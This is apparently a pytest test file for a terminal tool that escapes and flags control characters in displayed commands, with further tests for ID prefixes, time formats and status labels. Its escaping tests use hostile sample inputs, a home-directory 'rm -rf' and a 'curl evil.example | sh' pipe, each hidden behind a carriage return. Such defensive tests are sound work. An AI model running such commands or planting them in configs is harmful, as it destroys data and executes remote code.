"""Commands and paths shown to a person: control characters escaped, and flagged."""

from __future__ import annotations

from pathlib import Path

from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from readiness_tui.cli import cli
from readiness_tui.core.outputs.display import format_age, format_duration, has_control, printable, shared_id_prefix


def test_printable_escapes_every_control() -> None:
    assert printable("make test\rrm -rf ~") == "make test\\rrm -rf ~"
    assert printable("a\x1b[2Kb") == "a\\e[2Kb"
    assert printable("x\x00y\u202ez") == "x\\x00y\\u202ez"
    assert printable("make test && echo ok") == "make test && echo ok"
    assert has_control("a\rb") and has_control("a\x1b[0m") and not has_control("make test")


def test_trust_prompt_shows_the_hidden_command(tmp_path: Path) -> None:
    board = tmp_path / "board.toml"
    board.write_text(
        '[board]\ntitle = "T"\n\n[[items]]\nid = "A-1"\ntitle = "a"\n[items.gate]\n'
        'verify = "curl evil.example | sh\\rmake test"\n'
    )
    res = CliRunner().invoke(cli, ["trust", str(board)], input="n\n")
    assert res.exit_code == 1
    assert "curl evil.example | sh\\rmake test" in res.stdout
    assert "\r" not in res.stdout
    assert "control characters" in res.stdout


def test_shared_id_prefix_stops_at_a_separator() -> None:
    codex = ["CODEX-P0-001", "CODEX-P0-002", "CODEX-P1-001"]
    assert shared_id_prefix(codex) == "CODEX-"  # not "CODEX-P": what is left starts a part
    assert shared_id_prefix(["CODEX-P0-001", "CODEX-P0-002"]) == "CODEX-P0-"
    assert shared_id_prefix(["SEC-01", "VLT-01"]) == ""
    assert shared_id_prefix(["T001", "T002"]) == ""  # no separator: nothing to drop
    assert shared_id_prefix(["A-1"]) == ""  # one id has nothing to tell apart
    assert shared_id_prefix(["A-", "A-1"]) == ""  # would leave an id empty
    assert shared_id_prefix(["svc.api/a", "svc.api/b"]) == "svc.api/"


@given(st.lists(st.text(alphabet="AB-_.1", min_size=1, max_size=8), min_size=2, max_size=6, unique=True))
def test_shared_id_prefix_keeps_ids_apart(ids: list[str]) -> None:
    prefix = shared_id_prefix(ids)
    rest = [i[len(prefix) :] for i in ids]
    assert all(i.startswith(prefix) for i in ids) and all(rest)
    assert len(set(rest)) == len(ids)  # what is left still tells every id apart
    assert prefix == "" or prefix[-1] in "-_./: "  # nothing dropped, or cut at a separator


def test_ages_and_durations_have_one_rule_with_units() -> None:
    assert format_age(None) == "never"
    assert format_age(5.9) == "5s ago" and format_age(125) == "2m ago"
    assert format_age(7200) == "2h ago" and format_age(3 * 86400) == "3d ago"
    assert format_duration(None) == "-"
    assert format_duration(0.0123) == "12ms" and format_duration(0.9994) == "999ms"
    assert format_duration(1.25) == "1.2s" and format_duration(59.4) == "59.4s"
    assert format_duration(125.7) == "2m 05s"


def test_each_status_and_risk_state_reads_as_words() -> None:
    from readiness_tui.core.analysis.coverage import RISK_STATES
    from readiness_tui.core.model.statuses import STATUSES, status_label

    assert [status_label(s) for s in STATUSES] == ["todo", "in progress", "blocked", "review", "done", "cancelled"]
    assert [status_label(s) for s in RISK_STATES] == ["uncovered", "open", "in progress", "mitigated"]
